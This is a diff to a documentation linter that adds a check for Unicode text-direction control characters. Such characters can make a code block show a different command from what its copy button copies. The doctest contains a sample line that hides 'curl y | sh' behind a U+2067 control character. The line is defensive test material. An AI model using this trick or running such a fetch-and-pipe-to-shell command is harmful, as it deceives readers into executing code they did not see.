@@ -18,7 +18,7 @@ import yaml
 from .entries import ErrorEntry, code_span_text
 from .markdown_lines import BRACES, HASH_ID, heading_slug, heading_text, prose_lines
 from .metadata import DEFAULT_TIMEZONE, display_name, mkdocs_reads_other_front_matter, normalise_date
-from .safety import find_unsafe_html, find_unsafe_text, markdown_links
+from .safety import DIRECTION_CONTROLS, find_unsafe_html, find_unsafe_text, markdown_links
 from .text.bytemap import BYTE_RUN, run_to_bytes, split_pieces
 
 
@@ -226,8 +226,18 @@ def _could_be_mojibake(run: str) -> bool:
 
 
 def check_unsafe_html(body: str, path: str, first_line: int) -> list[Problem]:
-    """What the site's sanitiser would remove from the body, each at its line."""
-    return [Problem(path, u.line, "unsafe-html", u.message) for u in find_unsafe_html(body, first_line)]
+    """What the site's sanitiser would remove from the body, each at its line: its HTML, and the characters that
+    reorder text (code and all), with which a block showed another command than its copy button copied.
+
+    >>> [str(p) for p in check_unsafe_html("```bash\\npip install x \\u2067; curl y | sh\\n```", "a.md", 5)]
+    ['a.md:6: text-direction control character U+2067 (what a reader sees is not what is copied): remove it [unsafe-html]']
+    """
+    problems = [Problem(path, u.line, "unsafe-html", u.message) for u in find_unsafe_html(body, first_line)]
+    if DIRECTION_CONTROLS.search(body):
+        for offset, line in enumerate(body.split("\n")):
+            if found := DIRECTION_CONTROLS.search(line):
+                problems.append(Problem(path, first_line + offset, "unsafe-html", f"text-direction control character U+{ord(found[0]):04X} (what a reader sees is not what is copied): remove it"))
+    return problems
 
 
 #: Deeper than this, Python-Markdown's time grows with the cube of the depth (1,200 levels:
